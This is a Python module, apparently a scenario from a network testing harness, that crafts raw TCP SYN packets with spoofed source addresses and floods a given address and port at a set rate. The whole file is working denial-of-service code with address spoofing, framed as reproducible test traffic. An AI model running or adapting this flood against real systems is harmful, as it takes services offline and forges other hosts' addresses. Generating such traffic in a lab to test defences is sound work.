"""A SYN flood: SYNs from made-up addresses and ports, at a rate, to one address and port. Decides nothing.

    python -m scenarios.flood --name step-2 --to 10.0.0.1:8080 --rate 1000 --seconds 2 --seed 7

Writes IPv4 packets into a raw socket, so it needs CAP_NET_RAW; nothing ever answers the server's SYN-ACKs. The
addresses are those of the target's own network that no client has. Emits `flood` with the number of SYNs at its end.
"""

import argparse
import random
import socket
import struct
import sys
import time
from collections.abc import Callable

from scenarios.events import Emitter

SOURCES = range(224, 255)
"""Last numbers of the made-up addresses."""


def checksum(data: bytes) -> int:
    """RFC 1071, over an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, sport: int, target: bytes, dport: int, seq: int) -> bytes:
    """An IPv4 packet with a SYN, as a client's kernel would send one, with an MSS and nothing else."""
    options = struct.pack("!BBH", 2, 4, 1460)
    length = 20 + len(options)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, length // 4 << 4, 0x02, 64240, 0, 0) + options
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, length)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # The kernel fills in length, identification and checksum of the IP header (raw(7)).
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target) + tcp


def packets(target: str, dport: int, seed: int) -> Callable[[], bytes]:
    """Makes SYNs, each from another end; the same ones for the same seed."""
    chance, to = random.Random(seed), socket.inet_aton(target)

    def another() -> bytes:
        source = to[:3] + bytes([chance.choice(SOURCES)])
        return syn(source, chance.randint(1024, 65535), to, dport, chance.getrandbits(32))

    return another


def flood(target: str, dport: int, rate: float, seconds: float, seed: int) -> int:
    """Send them. Returns how many."""
    another, sent, began = packets(target, dport, seed), 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        while (passed := time.monotonic() - began) < seconds:
            for _ in range(int(passed * rate) + 1 - sent):
                sock.sendto(another(), (target, 0))
                sent += 1
            time.sleep(min(0.01, 1 / rate))
    return sent


def main() -> int:
    """Entry point."""
    parser = argparse.ArgumentParser(prog="scenarios.flood")
    parser.add_argument("--name", required=True)
    parser.add_argument("--to", required=True, metavar="ADDRESS:PORT")
    parser.add_argument("--rate", type=float, required=True, metavar="PER_SECOND")
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--seed", type=int, required=True)
    arguments = parser.parse_args()
    emit = Emitter(arguments.name)
    host, _, port = arguments.to.rpartition(":")
    sent = flood(host, int(port), arguments.rate, arguments.seconds, arguments.seed)
    emit("flood", to=arguments.to, sent=sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
